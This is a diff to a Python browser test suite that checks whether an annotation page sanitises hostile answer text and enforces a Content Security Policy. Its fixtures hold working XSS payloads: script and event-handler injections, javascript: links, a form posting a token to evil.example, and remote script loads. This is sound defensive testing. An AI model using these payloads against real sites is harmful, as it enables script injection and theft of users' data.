@@ -11,9 +11,10 @@ import pytest
 import pytest_asyncio
 
 pytest.importorskip("nh3", reason="the extra `evaluate` is not installed")
-playwright = pytest.importorskip("playwright.async_api", reason="playwright is not installed")
+pytest.importorskip("playwright.async_api", reason="playwright is not installed")
 
 from annotating import Page, page, votes_in
+from playwright import async_api as playwright
 
 CHROMIUM = Path("/usr/bin/chromium")
 FLAGS = (
@@ -24,13 +25,15 @@ WIDE, NARROW = {"width": 1280, "height": 800}, {"width": 390, "height": 844}
 HOSTILE = """\
 # <script>window.hacked = 1; alert(1)</script>
 <img src=x onerror="window.hacked = 2; alert(2)"> <img src="http://evil.example/beacon.png">
-![pixel](http://evil.example/pixel.png) [click](javascript:window.hacked=3) <a href="javascript:alert(3)">x</a>
+![pixel](http://evil.example/pixel.png) [click](javascript:window.hacked=3) <a href="javascript:alert(3)">
 [local](/name) [good](http://evil.example/page "title") <http://evil.example/auto>
 
 <base href="http://evil.example/"><form action="http://evil.example/steal"><input name=token></form>
 <style>body { display: none; background: url(http://evil.example/css) }</style>
-<link rel="stylesheet" href="http://evil.example/x.css"><meta http-equiv="refresh" content="0;url=http://evil.example/">
-<iframe src="http://evil.example/"></iframe><svg onload="window.hacked = 4"></svg><object data="//evil.example/o"></object>
+<link rel="stylesheet" href="http://evil.example/x.css">
+<meta http-equiv="refresh" content="0;url=http://evil.example/">
+<iframe src="http://evil.example/"></iframe><svg onload="window.hacked = 4"></svg>
+<object data="//evil.example/o"></object>
 </div></section></form></main></body></html><textarea><!-- <plaintext> ${7*7} {{ 7*7 }}
 
 | a | b |
@@ -45,14 +48,19 @@ HOSTILE = """\
 ANSWER = HOSTILE.replace("{wide}", "w" * 300)
 CHOICES = ("left", "tie", "right")
 
-pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason=f"no Chromium at {CHROMIUM}")
+pytestmark = [
+    pytest.mark.asyncio(loop_scope="module"),
+    pytest.mark.skipif(not CHROMIUM.exists(), reason=f"no Chromium at {CHROMIUM}"),
+]
 
 
-@pytest_asyncio.fixture
-async def browser(tmp_path: Path) -> AsyncIterator[Any]:
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def browser(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Any]:
+    """One for all tests; each person has a context of their own."""
+    home = str(tmp_path_factory.mktemp("home"))
     async with playwright.async_playwright() as driver:
         found = await driver.chromium.launch(
-            executable_path=str(CHROMIUM), args=list(FLAGS), env={**os.environ, "HOME": str(tmp_path)}
+            executable_path=str(CHROMIUM), args=list(FLAGS), env={**os.environ, "HOME": home}
         )
         try:
             yield found
@@ -169,7 +177,9 @@ async def test_a_hostile_answer_does_nothing(tmp_path: Path, browser: Any, size:
             ).count()
             == 0
         )
-        links = await ann.locator(".text a").evaluate_all("all => all.map(a => [a.href, a.rel, a.target])")
+        links = await ann.locator(".text a[href]").evaluate_all(
+            "all => all.map(a => [a.href, a.rel, a.target])"
+        )
         safe = "noopener noreferrer nofollow"
         assert links == [
             ["http://evil.example/page", safe, "_blank"],
@@ -190,14 +200,20 @@ async def test_a_script_that_got_into_the_page_would_not_run(tmp_path: Path, bro
     async with page(tmp_path / "run") as site:
         ann = await tab(browser, site, "Ann")
         tried = """() => {
-            const image = document.createElement('img'); image.src = 'http://evil.example/beacon.png';
-            const style = document.createElement('style'); style.textContent = 'body { display: none }';
-            const link = document.createElement('a'); link.setAttribute('onclick', 'window.hacked = 1');
-            document.body.append(image, style, link); link.click();
-            return [window.hacked ?? null, getComputedStyle(document.body).display];
+            const attempts = [
+                () => { document.body.innerHTML += '<img src=x onerror="window.hacked = 1">'; },
+                () => { const made = document.createElement('script'); made.text = 'window.hacked = 2';
+                        document.body.append(made); },
+                () => { const made = document.createElement('script'); made.src = 'http://evil.example/x.js';
+                        document.body.append(made); },
+                () => { document.body.setAttribute('onclick', 'window.hacked = 3'); document.body.click(); },
+                () => { const made = document.createElement('style');
+                        made.textContent = 'body { display: none }'; document.body.append(made); },
+            ];
+            const thrown = attempts.filter((attempt) => { try { attempt(); } catch { return true; } });
+            return [window.hacked ?? null, getComputedStyle(document.body).display, thrown.length];
         }"""
-        assert await ann.evaluate(tried) == [None, "block"]
-        assert all("Content Security Policy" in words for words in ann.trouble if "evil" in words)
+        assert await ann.evaluate(tried) == [None, "block", 4]
 
 
 async def test_a_narrow_screen_shows_all_without_scrolling_sideways(tmp_path: Path, browser: Any) -> None:
